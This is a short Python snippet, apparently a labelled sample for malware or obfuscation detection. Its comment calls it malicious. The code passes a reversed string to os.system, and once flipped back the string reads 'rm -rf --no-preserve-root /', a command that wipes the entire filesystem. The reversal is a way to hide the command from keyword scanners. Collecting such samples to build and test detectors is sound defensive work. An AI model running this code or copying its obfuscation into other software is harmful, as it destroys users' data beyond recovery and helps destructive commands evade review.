# Malicious, obfuscated: the command is stored reversed and flipped with [::-1] before os.system (rm -rf /).
import os

os.system("/ toor-evreserp-on-- fr- mr"[::-1])
